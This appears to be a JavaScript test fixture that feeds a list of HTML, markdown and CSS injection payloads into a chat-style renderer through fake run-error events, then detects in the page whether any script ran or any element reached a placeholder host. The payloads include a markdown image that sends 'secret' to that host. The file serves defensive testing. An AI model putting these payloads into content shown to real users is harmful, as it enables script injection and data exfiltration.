// Words that want to do harm: to be run, or to carry something away to `elsewhere`.

/** Texts that make a careless page run something, or ask `elsewhere` for something. */
export const payloads = (elsewhere) => [
  `![picture](${elsewhere}/markdown-image?d=secret)`,
  `![by reference][r]\n\n[r]: ${elsewhere}/reference-image`,
  `[![in a link](${elsewhere}/linked-image)](${elsewhere}/never-clicked)`,
  `<img src="${elsewhere}/img" srcset="${elsewhere}/srcset 2x" onerror="wasRun()">`,
  `<link rel="stylesheet" href="${elsewhere}/link-css"><link rel="prefetch" href="${elsewhere}/prefetch">`,
  `<link rel="preload" as="image" href="${elsewhere}/preload"><link rel="icon" href="${elsewhere}/icon">`,
  `<style>@import "${elsewhere}/import.css"; @font-face { font-family: f; src: url(${elsewhere}/font) }
    * { background: url(${elsewhere}/css-image); font-family: f }</style>`,
  `<p style="background:url(${elsewhere}/inline-style)">x</p><table background="${elsewhere}/background"><td>x</table>`,
  `<video autoplay src="${elsewhere}/video" poster="${elsewhere}/poster"></video><audio autoplay src="${elsewhere}/audio"></audio>`,
  `<iframe src="${elsewhere}/iframe" srcdoc="<script>parent.wasRun()</script>"></iframe><object data="${elsewhere}/object"></object>`,
  `<svg onload="wasRun()"><image href="${elsewhere}/svg-image"/><use href="${elsewhere}/svg-use#x"/></svg>`,
  `<input type="image" src="${elsewhere}/input" autofocus onfocus="wasRun()"><details open ontoggle="wasRun()">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><base href="${elsewhere}/">`,
  `<script src="${elsewhere}/script"></script><script>wasRun()</script>`,
  `[click](javascript:wasRun()) <javascript:wasRun()> [data](data:text/html,<script>parent.wasRun()</script>)`,
  `<template shadowrootmode="open"><img src="${elsewhere}/shadow"></template>`,
  `| ![cell](${elsewhere}/cell) |\n| --- |\n| <img src="${elsewhere}/cell-html"> |`,
  `$\\includegraphics{${elsewhere}/math}$ [^n]\n\n[^n]: ![note](${elsewhere}/footnote)`,
];

/** The words for one place, which begin with its name: whoever looks can tell where they were shown. */
export const wordsFor = (elsewhere) => (place) => `‹${place}› ${payloads(elsewhere).join('\n\n')}`;

/** What is shown of them anywhere in a document, by the names of the places; runs in the page. */
export function placesShown() {
  const walk = (root) =>
    [...root.querySelectorAll('*')].flatMap((node) => [node, ...(node.shadowRoot ? walk(node.shadowRoot) : [])]);
  const textOf = (node) => [...node.childNodes].filter(({ nodeType }) => nodeType === 3).map(({ data }) => data);
  const all = walk(document.body).flatMap((node) => [
    ...textOf(node),
    ...[...node.attributes].map(({ value }) => value),
    node.value,
  ]);
  return [...new Set(all.join(' ').match(/‹[^›]+›/g))];
}

/** What no text may have become, anywhere in a document; runs in the page. */
export function strangersMade() {
  const made =
    'iframe, object, embed, math, base, meta[http-equiv], template, frame, audio, video, b, [srcdoc], [ping]';
  const walk = (root) =>
    [...root.querySelectorAll('*')].flatMap((node) => [node, ...(node.shadowRoot ? walk(node.shadowRoot) : [])]);
  return walk(document.body)
    .filter(
      (node) =>
        node.matches(made) ||
        [...node.attributes].some(
          ({ name, value }) =>
            name.startsWith('on') ||
            (/^(href|src|action|data)$/.test(name) && /^\s*(javascript|data:text)/i.test(value)),
        ),
    )
    .map((node) => node.outerHTML.slice(0, 120));
}

/** An error whose words are of that kind. */
export const harmfulEnd = ({ threadId, runId }, elsewhere) => {
  const bad = wordsFor(elsewhere);
  return [
    { type: 'RUN_STARTED', threadId, runId },
    { type: 'RUN_ERROR', message: bad('error'), code: bad('error code') },
  ];
};
